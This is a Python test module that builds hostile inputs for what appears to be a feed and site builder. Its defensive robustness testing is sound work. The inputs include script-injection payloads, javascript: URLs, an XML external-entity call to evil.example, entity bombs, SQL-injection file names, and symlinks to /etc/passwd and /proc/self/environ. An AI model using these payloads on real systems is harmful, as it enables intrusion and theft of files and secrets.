"""Further feeds, messages, tables, encodings, file names and files: what carries a text lies about it, or is odd."""

from __future__ import annotations

import base64
import json
import os
import quopri
from collections.abc import Callable, Iterator
from pathlib import Path

from tests.hostile import encodings as enc
from tests.hostile.active import FIRE
from tests.hostile.case import BUILT, EITHER, MARK, PARTLY, REFUSED, Case, Words

NAMES = (
    "...txt", " lead.txt", "a.txt.", "a.txt ", "a:b.txt", "a.txt:stream", "\ufeff.txt", "zero\u200bwidth.txt", "bell\x07.txt", "rub\x7fout.txt", "line\u2028sep.txt", "cr\rname.txt", "esc\x1b[31m.txt",
    "%s%n%x.txt", "${HOME}.txt", "=cmd.txt", "@sum.txt", "+1.txt", "-1.txt", "'; DROP TABLE x;--.txt", "<b>bold<b>.html", "{static}x.txt", "{attach}.txt", "a#1.txt", "#.txt", "&amp;.txt", "a&b=c.txt", "~$lock.txt", "$RECYCLE.BIN",
    "desktop.ini", "robots.txt", "index.html", "404.html", "CNAME", "sitemap.xml", "README", "LICENSE", "Makefile", "setup.py", "package.json", "pyproject.toml", "Digest.toml", "COVERAGE.TOML", "removed.toml", "x.toml",
    "x.mo", "x.svg", "x.js", "x.css", "x.ics", "x.vcf", "x.tex", "x.rtf", "x.log", "x.yaml", "x.webloc", "x.url", "x.desktop", "x.mhtml.txt", "x.eml.txt", "x.warc.txt", "x.pdf.txt", "x.rss.txt", "\U0001f4f0.txt", "\u202dlro.txt", "\u2067open.txt",
    "Stra\u00dfe.txt", "STRASSE.txt", "\u212a.txt", "k.txt", "\u0130.txt", "i\u0307.txt", "\ufb01.txt", "fi.txt", "\u1e9e.txt", "a\u0327\u0301.txt", "a\u0301\u0327.txt", "\uac00.txt", "\u1100\u1161.txt", "\u00e5.txt", "\u212b.txt", "x" * 100 + " " * 100 + ".txt", "." + "x" * 20 + "..txt",
)  # fmt: skip

# Declared one way, written in another; every letter must come out, or the file be refused.
_LABELS = (
    "UTF8",
    "utf-16",
    "utf-16le",
    "UTF-32",
    "x-user-defined",
    "iso-8859-8-i",
    "ISO_8859-1",
    "windows-1252;",
    " utf-8 ",
    "'utf-8",
    "replacement",
    "hz-gb-2312",
    "csiso2022kr",
    "utf-8\u00e9",
    "none",
    "0",
    "mbcs",
    "oem",
    "locale",
)
_RARE = (("cp037", enc.WESTERN), ("cp500", enc.WESTERN), ("cp1140", enc.EURO), ("cp864", enc.ARABIC), ("iso8859-3", enc.SPANISH), ("iso8859-10", enc.NORDIC), ("iso8859-16", enc.EURO), ("cp775", enc.LATVIAN), ("cp737", enc.GREEK), ("cp855", enc.RUSSIAN), ("cp857", enc.TURKISH), ("cp862", enc.HEBREW), ("mac-latin2", enc.POLISH), ("mac-turkish", enc.TURKISH), ("mac-greek", enc.GREEK), ("euc_jis_2004", enc.JAPANESE), ("shift_jis_2004", enc.JAPANESE), ("iso2022_jp_2", enc.JAPANESE), ("iso2022_jp_3", enc.JAPANESE), ("kz1048", enc.RUSSIAN), ("ptcp154", enc.RUSSIAN))  # fmt: skip


def cases(words: Words) -> Iterator[Case]:
    """All of them."""
    yield from _feeds(words)
    yield from _json_feeds(words)
    yield from _mails(words)
    yield from _tables(words)
    yield from _encodings(words)
    yield from _names(words)
    yield from _files(words)


def _one(kind: str, name: str, data: bytes | str, keep: tuple[str, ...] = (), fate: str = BUILT) -> Case:
    held = data.encode("utf-8", "surrogatepass") if isinstance(data, str) else data
    return Case(name.rpartition(".")[0], kind, ((name, held),), keep, fate)


# --- feeds ------------------------------------------------------------------------------------------------------------

_RDF = '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://{}/"><channel><title>B</title></channel><item><title>T</title><link>http://example.com/1</link><description>{}</description></item></rdf:RDF>'
_ATOM = '<feed xmlns="http://www.w3.org/2005/Atom"><title>B</title><id>x</id><entry><title>T</title><id>y</id>{}</entry></feed>'
_NS = 'xmlns:content="http://purl.org/rss/1.0/modules/content/" xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:media="http://search.yahoo.com/mrss/" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:h="http://www.w3.org/1999/xhtml"'


def _rss(inside: str, more: str = "", version: str = "2.0") -> str:
    return f'<rss version="{version}" {_NS}><channel><title>B</title>{more}{inside}</channel></rss>'


def _feeds(words: Words) -> Iterator[Case]:
    text, other = words.paragraph().replace('"', ""), words.paragraph().replace('"', "")
    body = f"<title>T</title><description>{text}</description>"
    active = f"<p>{text}</p><script>{FIRE}</script><img src=x onerror={MARK}>"
    feeds = {
        "rss-090": _RDF.format("my.netscape.com/rdf/simple/0.9", text), "rss-10": _RDF.format("purl.org/rss/1.0", text),
        "rss-091": '<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd">' + _rss(f"<item>{body}</item>", version="0.91"),
        "rss-092": _rss(f"<item>{body}</item>", version="0.92"), "rss-99": _rss(f"<item>{body}</item>", version="99"), "encoded": _rss(f"<item><title>T</title><content:encoded><![CDATA[{active}]]></content:encoded></item>"),
        "split-cdata": _rss(f"<item><title>T</title><description><![CDATA[<p>a]]]]><![CDATA[>{text}</p>]]></description></item>"), "cdata-in-cdata": _rss(f"<item><title>T</title><description><![CDATA[<![CDATA[x]]]]><![CDATA[><p>{text}</p>]]></description></item>"),
        "cdata-title": _rss(f"<item><title><![CDATA[<script>{MARK}</script>]]></title><description>{text}</description></item>"), "escaped-twice": _rss(f"<item><title>T</title><description>&amp;lt;script&amp;gt;{MARK}&amp;lt;/script&amp;gt; {text}</description></item>"),
        "guids": _rss(f"<item><guid isPermaLink='true'>javascript:{MARK}</guid>{body}</item><item><guid isPermaLink='true'>javascript:{MARK}</guid><title>U</title><description>{other}</description></item>"),
        "same-link": _rss(f"<item><link>http://example.com/a</link>{body}</item><item><link>http://example.com/a</link><title>T</title><description>{other}</description></item>"),
        "links": _rss("".join(f"<item><link>{link}</link><title>L{n}</title><description>Link number {n} was printed there.</description></item>" for n, link in enumerate((f"javascript:{MARK}", "\n http://example.com/a b \n", "data:text/html,x", "//evil.example", "http://[", "http://\u0430pple.example/", "x" * 5000, "file:///etc/passwd", "http://a@b@c/")))),
        "base": _rss(f"<item xml:base='javascript:{MARK}//'><link>x</link><title>T</title><description>&lt;a href='y'&gt;{text}&lt;/a&gt;</description></item>", "<link>../..</link>"),
        "instructions": f'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="javascript:{MARK}"?><?php system("x") ?>' + _rss(f"<?x y?><item><?z?>{body}</item>"),
        "media": _rss(f"<item>{body}<enclosure url='file:///etc/passwd' type='text/html' length='-1'/><media:content url='javascript:{MARK}'/><media:thumbnail url='//evil.example/x'/></item>"),
        "two-titles": _rss(f"<item><title>T</title><title>U</title><title/>{body}</item>"), "no-channel": f"<rss version='2.0'><item>{body}</item></rss>", "no-version": f"<rss><channel><item>{body}</item></channel></rss>",
        "capitals": f"<RSS VERSION='2.0'><CHANNEL><TITLE>B</TITLE><ITEM><TITLE>T</TITLE><DESCRIPTION>{text}</DESCRIPTION></ITEM></CHANNEL></RSS>",
        "undefined-entities": _rss(f"<item><title>a&nbsp;b&foo;</title><description>caf&eacute; {text}</description></item>"), "bare-ampersand": _rss(f"<item><title>A & B</title><description>{text} & x < y</description></item>"),
        "prefix": f'<r:rss xmlns:r="http://backend.userland.com/rss2" version="2.0"><r:channel><r:title>B</r:title><r:item><r:title>T</r:title><r:description>{text}</r:description></r:item></r:channel></r:rss>',
        "junk-before": "junk before\n" + _rss(f"<item>{body}</item>"), "bom-space": "\ufeff \n<?xml version='1.0'?>" + _rss(f"<item>{body}</item>"), "two-roots": _rss(f"<item>{body}</item>") + _rss(f"<item><title>U</title><description>{other}</description></item>"),
        "feed-in-feed": _rss(f"<item><title>T</title><description><![CDATA[{_rss('<item><title>inner</title></item>')}]]> {text}</description></item>"), "item-in-item": _rss(f"<item><title>T</title><item><title>U</title><description>{other}</description></item><description>{text}</description></item>"),
        "xhtml-in-item": _rss(f"<item><title>T</title><h:body><h:p>{other}</h:p><h:script>{MARK}</h:script></h:body><description>{text}</description></item>"), "author": _rss(f"<item>{body}<author>{MARK}@x (&lt;script&gt;{MARK}&lt;/script&gt;)</author><dc:creator>&lt;img src=x onerror={MARK}&gt;</dc:creator></item>"),
        "source": _rss(f"<item>{body}<source url='javascript:{MARK}'>&lt;script&gt;{MARK}</source></item>", f"<language>en&quot; onload=&quot;{MARK}</language><image><url>javascript:{MARK}</url></image><cloud domain='evil.example'/>"),
        "date-forms": _rss("".join(f"<item><title>D{n}</title><{tag}>{d}</{tag}><description>Dated form {n} was kept there.</description></item>" for n, (tag, d) in enumerate((t, d) for t in ("pubDate", "dc:date") for d in ("Fri, 31 Feb 2023 24:61:61 EST", "2023-W37-1", "1694425800000", "-99999999999999", "11 \u0441\u0435\u043d\u0442\u044f\u0431\u0440\u044f 2023", "\u0661\u0662/\u0660\u0669/\u0662\u0660\u0662\u0663", "Mon, 11 Sep 23 10:00:00 +2460", "0001-01-01T00:00:00+14:00", "9999-12-31T23:59:60Z", "&lt;script&gt;", "20230911T100000", "2023-09-11T10:00:00.123456789123456789Z", "1 Jan 10000")))),
        "comments": _rss(f"<!-- <item><title>No</title></item> --><item><!-- x -- y -->{body}</item>"), "blank": _rss(f"<item/><item></item><item><title/></item><item>{body}</item>"), "long-name": _rss(f"<{'x' * 60000}/><item>{body}</item>"), "controls": _rss(f"<item><title>a&#1;b&#0;&#xFFFE;&#xD800;</title><description>{text}</description></item>"),
        "atom-03": f'<feed version="0.3" xmlns="http://purl.org/atom/ns#"><title>B</title><entry><title>T</title><content type="text/html" mode="escaped">&lt;p&gt;{text}&lt;/p&gt;</content></entry></feed>', "atom-xhtml": _ATOM.format(f'<content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"><p onclick="{MARK}">{text}</p><script>{MARK}</script></div></content>'),
        "atom-base64": _ATOM.format(f'<content type="text/plain">{base64.b64encode(text.encode()).decode()}</content><summary>{text}</summary>'), "atom-src": _ATOM.format(f'<content src="file:///etc/passwd" type="text/plain"/><summary>{text}</summary>'),
        "atom-xml": _ATOM.format(f'<content type="application/xml"><x onload="{MARK}">{other}</x></content><summary>{text}</summary>'), "atom-links": _ATOM.format(f'<link rel="alternate" href="javascript:{MARK}"/><link rel="self" href="file:///etc/passwd"/><summary type="html">&lt;svg onload={MARK}&gt;{text}</summary>'),
        "atom-title": _ATOM.format(f'<title type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"><script>{MARK}</script>U</div></title><summary>{text}</summary>'), "atom-dates": _ATOM.format(f"<published>0000-00-00T00:00:00Z</published><updated>99999-01-01T00:00:00Z</updated><summary>{text}</summary>"),
    }  # fmt: skip
    loose = {"bare-ampersand", "capitals", "junk-before", "two-roots", "controls", "undefined-entities", "item-in-item", "atom-xml", "prefix", "long-name", "no-channel", "no-version", "same-link"}  # fmt: skip
    for name, feed in feeds.items():
        kept = () if name in ("links", "date-forms") else (text,)
        yield _one("feed", f"rss-{name}.rss", feed, kept, EITHER if name in loose else BUILT)
    bombs = {
        "quadratic": f"<!DOCTYPE r [<!ENTITY a '{'a' * 50000}'>]>" + _rss(f"<item><title>T</title><description>{'&a;' * 50000}</description></item>"),
        "attribute": "<!DOCTYPE r [<!ATTLIST item x CDATA 'y'>]>" + _rss(f"<item>{body}</item>"), "external": '<!DOCTYPE r SYSTEM "../secret.dtd" [<!ENTITY % p SYSTEM "http://evil.example/x">%p;]>' + _rss(f"<item>{body}</item>"),
        "notation": '<!DOCTYPE r [<!NOTATION n SYSTEM "file:///etc/passwd"><!ENTITY e SYSTEM "x" NDATA n>]>' + _rss(f"<item>{body}</item>"), "hidden": "<!-- x --><!DOCTYPE\nr\n[\n<!ENTITY\n a 'x'>\n]>" + _rss(f"<item><title>&a;</title><description>{text}</description></item>"),
        "utf16": ("\ufeff<!DOCTYPE r [<!ENTITY a 'aaaa'>]>" + _rss(f"<item><title>&a;</title><description>{text}</description></item>")).encode("utf-16-be"),
        "utf32": ("\ufeff<!DOCTYPE r [<!ENTITY a 'aaaa'>]>" + _rss(f"<item><title>&a;</title><description>{text}</description></item>")).encode("utf-32-le"),
    }  # fmt: skip
    for name, bomb in bombs.items():
        yield _one("feed", f"rss-bomb-{name}.rss", bomb, (), EITHER)


def _json_feeds(words: Words) -> Iterator[Case]:
    text = words.paragraph()
    ok = {"id": "1", "title": "T", "content_text": text}
    for name, feed in {
        "ids": {"items": [{**ok, "id": {}}, {**ok, "id": None, "title": "U"}]}, "dict": {"items": {"a": ok}}, "html": {"items": [{"id": 1, "content_html": f"<p>{text}</p><script>{FIRE}</script>"}]},
        "both": {"items": [{**ok, "content_html": [], "summary": {}}]}, "urls": {"items": [{**ok, "url": f"javascript:{MARK}", "external_url": "file:///etc/passwd", "image": "//evil.example/x", "banner_image": 1}]},
        "dates": {"items": [{**ok, "date_published": "9999-99-99", "date_modified": 1e400}]}, "lists": {"title": ["B"], "items": [{**ok, "title": [["T"]], "authors": {"name": "x"}, "tags": "x", "attachments": None}]},
        "surrogate": {"items": [{**ok, "title": "\ud800 lone", "language": "\udfff"}]}, "nul": {"items": [{**ok, "title": "a\0b\x1b[31m", "url": "http://\0"}]}, "long": {"items": [{**ok, "title": "x" * 200000, "authors": [{"name": "y" * 100000}]}]},
        "hubs": {"hubs": [{"url": "http://evil.example"}], "next_url": "file:///etc/passwd", "feed_url": "http://evil.example", "expired": True, "items": [ok]},
    }.items():  # fmt: skip
        data = json.dumps({"version": "https://jsonfeed.org/version/1.1", **feed})
        yield _one("feed", f"jf-{name}.json", data, (text,) if name != "dict" else (), EITHER)
    raw = json.dumps({"version": "https://jsonfeed.org/version/1.1", "items": [ok]})
    yield _one("feed", "jf-twice.json", raw.replace('"items"', '"items": [], "items"'), (text,), EITHER)
    yield _one("feed", "jf-bom16.json", b"\xff\xfe" + raw.encode("utf-16-le"), (text,), EITHER)
    yield _one("feed", "jf-number.json", raw.replace('"1"', "9" * 100000), (text,), EITHER)


# --- messages ---------------------------------------------------------------------------------------------------------


def _mails(words: Words) -> Iterator[Case]:
    text, other = words.paragraph(), words.paragraph()
    head = "From: Ann <ann@example.com>\r\nSubject: News\r\nMIME-Version: 1.0\r\n"
    plain = f"Content-Type: text/plain\r\n\r\n{text}\r\n"

    def mixed(inside: str, boundary: str = "b", kind: str = "mixed") -> str:
        return f"{head}Content-Type: multipart/{kind}; boundary={boundary}\r\n\r\n{inside}"

    packed = base64.encodebytes(text.encode()).decode()
    sound = {
        "boundary-prefix": mixed(f"--b\r\nContent-Type: multipart/mixed; boundary=bb\r\n\r\n--bb\r\n{plain}--bb--\r\n--b--"), "no-end": mixed(f"--b\r\n{plain}"), "preamble": mixed(f"{MARK} preamble\r\n--b\r\n{plain}--b--\r\nepilogue"),
        "digest": mixed(f"--b\r\n\r\nSubject: x\r\n\r\n{text}\r\n--b--", kind="digest"), "tnef": mixed(f"--b\r\n{plain}--b\r\nContent-Type: application/ms-tnef; name=winmail.dat\r\nContent-Transfer-Encoding: base64\r\n\r\neJ8+IgEA\r\n--b--"),
        "external": mixed(f"--b\r\n{plain}--b\r\nContent-Type: message/external-body; access-type=local-file; name=\"/etc/passwd\"\r\n\r\nContent-Type: text/plain\r\n\r\n--b--"), "calendar": mixed(f"--b\r\n{plain}--b\r\nContent-Type: text/calendar\r\n\r\nBEGIN:VCALENDAR\r\n--b--"),
        "inline-html": mixed(f"--b\r\n{plain}--b\r\nContent-Type: text/html\r\nContent-Disposition: inline; filename=\"../../x.html\"\r\n\r\n<p onclick={MARK}>{other}</p><script>{MARK}</script>\r\n--b--"),
        "base64": f"{head}Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n{packed}", "base64-cut": f"{head}Content-Type: text/plain\r\nContent-Transfer-Encoding: base64\r\n\r\n{packed[:-4]}", "base64-garbage": f"{head}Content-Type: text/plain\r\nContent-Transfer-Encoding: base64\r\n\r\n!{packed}*",
        "quoted": f"{head}Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n{quopri.encodestring(text.encode()).decode()}", "encoding-twice": f"{head}Content-Transfer-Encoding: 7bit\r\nContent-Transfer-Encoding: base64\r\n\r\n{text}", "encoding-odd": f"{head}Content-Transfer-Encoding: x-zzz\r\n\r\n{text}", "encoding-binary": f"{head}Content-Transfer-Encoding: binary\r\n\r\n{text}",
        "subject-script": head.replace("News", "=?utf-8?b?PHNjcmlwdD56emZpcmVkPC9zY3JpcHQ+?=") + f"\r\n{text}", "subject-utf7": head.replace("News", "=?utf-7?q?+ADw-script+AD4-?=") + f"\r\n{text}", "subject-unknown": head.replace("News", "=?no-such?q?x?= =?utf-8?x?y?= =?utf-8?b?!!!?=") + f"\r\n{text}",
        "subject-split": head.replace("News", "=?utf-8?b?w4M=?= =?utf-8?b?wrw=?= =?utf-8?q?=C3?= =?utf-8?q?=BC?=") + f"\r\n{text}", "subject-nul": head.replace("News", "=?utf-8?q?a=00b=0D=0ABcc:_x?=") + f"\r\n{text}", "subject-raw": head.replace("News", "Gr\u00f6\u00dfe \u6e2f\u53e3 \u202etxt") + f"\r\n{text}", "subject-twice": head + f"Subject: Other\r\n\r\n{text}",
        "from-group": head.replace("Ann <ann@example.com>", "undisclosed: a@b, c@d;") + f"\r\n{text}", "from-html": head.replace("Ann", f"\"<img src=x onerror={MARK}>\"") + f"\r\n{text}", "from-none": head.replace("From: Ann <ann@example.com>\r\n", "") + f"\r\n{text}", "date-odd": head + f"Date: <script>{MARK}</script> 99 99 99999\r\n\r\n{text}",
        "lf": (head + plain).replace("\r\n", "\n"), "header-no-colon": head + f"this is no header\r\n\r\n{text}", "type-bad": head + f"Content-Type: ;;;=/\"\r\n\r\n{text}", "type-star": head + f"Content-Type: text/plain; charset*=utf-8''us-ascii; name*0*=x''%2e%2e; name*1=/x\r\n\r\n{text}", "charset-quoted": head + f"Content-Type: text/plain; charset=\"utf-8\\\"; x\"\r\n\r\n{text}",
        "flowed": head + "Content-Type: text/plain; format=flowed; delsp=yes\r\n\r\n" + text.replace(". ", ". \r\n") + "\r\n", "html-meta": head + f"Content-Type: text/html; charset=utf-8\r\n\r\n<meta http-equiv=refresh content='0;url=javascript:{MARK}'><base href=//evil.example><p>{text}</p><img src=cid:x><img src=http://evil.example/{MARK}>",
        "forwarded": mixed(f"--b\r\nContent-Type: message/rfc822\r\n\r\nSubject: Inner\r\n\r\n{text}\r\n--b--"), "signed": mixed(f"--b\r\n{plain}--b\r\nContent-Type: application/pgp-signature\r\n\r\n-----BEGIN PGP SIGNATURE-----\r\n--b--", kind="signed"), "boundary-spaces": mixed(f"--b  \r\n{plain}--b--  "),
    }  # fmt: skip
    for name, mail in sound.items():
        kept = () if name == "base64-cut" else (text, other) if name == "inline-html" else (text,)
        yield _one("mail", f"eml-{name}.eml", mail, kept)
    odd = {
        "partial": f"{head}Content-Type: message/partial; number=1; total=9; id=x\r\n\r\n{text}", "enriched": f"{head}Content-Type: text/enriched\r\n\r\n<bold>{text}</bold>", "rtf": f"{head}Content-Type: text/rtf\r\n\r\n{{\\rtf1 {text}}}", "wrong-boundary": mixed(f"--c\r\n{plain}--c--"), "boundary-empty": mixed(f"--\r\n{plain}----", '""'),
        "boundary-long": mixed(f"--{'b' * 5000}\r\n{plain}", "b" * 5000), "cr": (head + plain).replace("\r\n", "\r"), "uuencode": f"{head}Content-Transfer-Encoding: x-uuencode\r\n\r\nbegin 644 x\r\n#0V%T\r\n`\r\nend\r\n", "header-nul": head.replace("News", "a\0b") + f"\r\n{text}", "header-only": "Subject: x", "received": "Received: x\r\n" * 5000 + head + f"\r\n{text}",
        "mbox": f"From a@b Mon Sep 11 10:00:00 2023\r\n{head}\r\n{text}\r\n\r\nFrom c@d Mon Sep 11 10:00:00 2023\r\n{head}\r\n{other}\r\n",
    }  # fmt: skip
    for name, mail in odd.items():
        yield _one("mail", f"eml-{name}.eml", mail, (text, other) if name == "mbox" else (), EITHER)


def _tables(words: Words) -> Iterator[Case]:
    text, other = words.paragraph(), words.paragraph()
    row = json.dumps({"title": "T", "text": text})
    for name, data in {
        "crlf": row + "\r\n" + row.replace("T", "U", 1) + "\r\n", "cr-inside": json.dumps({"text": f"{text}\r{other}"}), "separators": json.dumps({"text": f"{text}\u2028{other}\u0085x"}, ensure_ascii=False), "space": "  " + row + "  \n\t\n", "twice": row[:-1] + ', "text": ' + json.dumps(text) + "}",
        "front": json.dumps({"title": "---\ntitle: x\n---", "text": f"---\nslug: ../../x\n---\n\n{text}"}), "active": json.dumps({"text": f"<script>{FIRE}</script> {text}", "url": "data:text/html,x"}), "html": json.dumps({"html": f"<svg onload={MARK}><p>{text}</p></svg>"}), "numbers": row[:-1] + ', "x": 1e999, "y": -0, "z": ' + "9" * 4000 + "}",
        "keys": json.dumps({"text": text, **{f"k{n}": n for n in range(5000)}}), "rights": json.dumps({"text": text, "rights": f"<b>{MARK}</b>\n[full]"}), "controls": json.dumps({"title": "a\0\x07\u202eb", "text": text, "outlet": "x\ny\t\x1b[2J"}), "long-line": json.dumps({"text": text, "pad": "x" * 2_000_000}),
    }.items():  # fmt: skip
        yield _one("table", f"rows-{name}.jsonl", data, (text,))
    part = words.article()[0].encode()
    yield Case(
        "rows-hash", "table", (("hash.jsonl", row.encode()), ("hash.jsonl#1", part)), (text,), PARTLY, ("hash.jsonl#1",)
    )
    yield _one("table", "rows-bad-utf8.jsonl", row.encode() + b'\n{"text": "\xff\xfe"}\n', (text,), EITHER)
    yield _one("table", "rows-half.jsonl", row + "\n" + row[: len(row) // 2], (text,), PARTLY)


# --- encodings --------------------------------------------------------------------------------------------------------


def _encodings(words: Words) -> Iterator[Case]:
    for encoding, whole in _RARE:
        text = "".join(c for c in whole if enc.encodable(c, encoding))
        yield _one(
            "encoding",
            f"rare-{encoding}.txt",
            f"{text}\n\n{text[: len(text) // 2]}\n".encode(encoding),
            (text,),
            EITHER,
        )
    for n, label in enumerate(_LABELS):
        page = f'<html><head><meta charset="{label}"><title>x</title></head><body><p>{enc.WESTERN}</p><p>{words.paragraph()}</p></body></html>'
        yield _one("encoding", f"label-{n:02}.html", page, (enc.WESTERN,))
    western, pad = enc.WESTERN, "<!-- " + "x" * 2000 + " -->"
    for name, page in {
        "late": f"<html><head>{pad}<meta charset=windows-1251><title>x</title></head><body><p>{enc.RUSSIAN}</p></body></html>".encode("cp1251"), "two": f"<html><head><meta charset=utf-8><meta charset=koi8-r></head><body><p>{western}</p></body></html>".encode(),
        "bom-wins": b"\xef\xbb\xbf" + f"<html><head><meta charset=koi8-r></head><body><p>{western}</p></body></html>".encode(), "bom16": f"\ufeff<html><head><meta charset=utf-8></head><body><p>{western}</p></body></html>".encode("utf-16-le"),
        "xml-lies": f"<?xml version='1.0' encoding='utf-16'?><html><body><p>{western}</p></body></html>".encode(), "entities": ("<html><body><p>" + "".join(f"&#{ord(c)};" for c in western) + "</p></body></html>").encode(),
    }.items():  # fmt: skip
        yield _one("encoding", f"said-{name}.html", page, (enc.RUSSIAN if name == "late" else western,))
    text, keep = words.article()
    for name, data in {
        "lines-mixed": b"\n\n".join((keep[0].encode(), western.encode("cp1252"), keep[1].encode(), western.encode())), "modified": text.encode() + b"a\xc0\x80b", "cesu": text.encode() + "\U0001f600".encode("utf-16-be", "surrogatepass").hex().encode(),
        "surrogate-pair": text.encode() + b"\xed\xa0\xbd\xed\xb8\x80 smiled", "five-bytes": text.encode() + b"\xf8\x88\x80\x80\x80", "beyond": text.encode() + b"\xf4\x90\x80\x80", "cut": text.encode() + "\u6e2f".encode()[:2], "latin-end": text.encode() + b" caf\xe9",
    }.items():  # fmt: skip
        yield _one("encoding", f"bytes-{name}.txt", data, (keep[1],))
    yield _one("encoding", "bytes-utf16-halves.txt", text.encode("utf-16") + text.encode("utf-16-be"), (), EITHER)
    yield _one("encoding", "bytes-utf16-in-utf8.txt", text.encode() + text.encode("utf-16-le"), (), EITHER)
    yield _one("encoding", "bytes-shifts.txt", "\x1b$B" * 5000 + text, (), EITHER)
    yield _one("encoding", "bytes-tildes.txt", "~{" * 20000 + text, (), EITHER)
    yield _one("encoding", "bytes-plus.txt", "a+AAAA-" * 20000 + text, (), EITHER)
    yield _one("encoding", "bytes-twice.txt", western.encode().decode("cp1252", "replace") + "\n\n" + text, (keep[1],))


# --- names and files --------------------------------------------------------------------------------------------------


def _names(words: Words) -> Iterator[Case]:
    for n, name in enumerate(NAMES):
        text, keep = words.article()
        page = name.endswith((".html", ".htm"))
        data = words.page(f"<p>{keep[1]}</p>")[0] if page else text
        hidden = name.startswith(".")
        fate = EITHER if hidden or name in ("COVERAGE.TOML", "package.json") else BUILT
        yield Case(f"named-{n:02}", "name", ((name, data.encode()),), () if hidden else keep[1:2], fate)


def _files(words: Words) -> Iterator[Case]:
    def case(
        name: str, lay: Callable[[Path], object], refused: tuple[str, ...] = (), keep: tuple[str, ...] = ()
    ) -> Case:
        text, own = words.article()
        return Case(
            name,
            "link",
            ((f"{name}-good.txt", text.encode()),),
            (*own, *keep),
            refused=refused,
            lay=lambda f: lay(f) and None,
        )

    yield case(
        "settings", lambda f: (f / "digest.toml").write_text(f'url = "javascript:{MARK}"\nx = [['), ("digest.toml",)
    )
    yield case("settings-link", lambda f: (f / "digest.toml").symlink_to("/etc/passwd"), ("digest.toml",))
    yield case("settings-folder", lambda f: (f / "digest.toml").mkdir())
    yield Case("deep-2000", "link", (("deep-2000-good.txt", words.article()[0].encode()),), lay=_very_deep, full=True)
    yield case("sparse-1gb", lambda f: _sparse(f / "sparse-1gb.jsonl", 1 << 30), ("sparse-1gb.jsonl",))
    yield case(
        "sparse-head",
        lambda f: _sparse(f / "sparse-head.html", 60 << 20, b"<html><body><p>x</p>"),
        ("sparse-head.html",),
    )
    yield case("sparse-below", lambda f: _sparse(f / "sparse-below.txt", 40 << 20), ("sparse-below.txt",))
    yield case("link-proc", lambda f: (f / "link-proc.txt").symlink_to("/proc/self/environ"), ("link-proc.txt",))
    yield case("link-fd", lambda f: (f / "link-fd.txt").symlink_to("/dev/stdin"), ("link-fd.txt",))
    yield case("link-long", lambda f: (f / "link-long.txt").symlink_to("x" * 4000), ("link-long.txt",))
    yield case("link-chain", _chain)
    yield case("many-folders", lambda f: [(f / f"d{n}").mkdir() for n in range(3000)])
    yield case("removed", lambda f: (f / "removed.toml").write_text('[[request]]\nfile = "*"\n'), keep=("[[request]]",))
    if os.geteuid() == 0:
        for name, number in (("zero", os.makedev(1, 5)), ("full", os.makedev(1, 7)), ("random", os.makedev(1, 9))):
            yield case(
                f"device-{name}", lambda f, n=name, d=number: _device(f / f"device-{n}.txt", d), (f"device-{name}.txt",)
            )  # type: ignore[misc]
    for name, make in {
        "near-line.txt": lambda: "A head\n\n" + "word " * 9_900_000, "near-page-line.html": lambda: words.page("<p>" + "word " * 9_900_000 + "</p>")[0], "near-sentences.txt": lambda: "A head\n\n" + "A sentence of five words. " * 1_900_000,
        "near-lines.txt": lambda: "short line\n" * 4_500_000, "near-tags.html": lambda: words.page("<p>a" * 10_000_000)[0], "near-spaces.txt": lambda: "x" + " " * 49_000_000 + "y", "near-feed.rss": lambda: _rss("<item><title>x</title></item>" * 1_500_000),
    }.items():  # fmt: skip
        yield Case(name.rpartition(".")[0], "big", (), (), EITHER, (), _Write(name, make), full=True)


class _Write:
    def __init__(self, name: str, make: Callable[[], str]) -> None:
        self._name, self._make = name, make

    def __call__(self, folder: Path) -> None:
        (folder / self._name).write_text(self._make())


def _sparse(path: Path, size: int, start: bytes = b"") -> None:
    with path.open("wb") as file:
        file.write(start)
        file.truncate(size)


def _chain(folder: Path) -> None:
    (folder / "chain-0.txt").write_text("At the end of the chain of links this was read.")
    for n in range(1, 20):
        (folder / f"chain-{n}.txt").symlink_to(f"chain-{n - 1}.txt")


def _very_deep(folder: Path) -> None:
    here = os.getcwd()
    os.chdir(folder)
    try:
        for _ in range(2000):
            os.mkdir("d")
            os.chdir("d")
    finally:
        os.chdir(here)


def _device(path: Path, number: int) -> None:
    import stat

    os.mknod(path, stat.S_IFCHR | 0o666, number)


__all__ = ["REFUSED", "cases"]
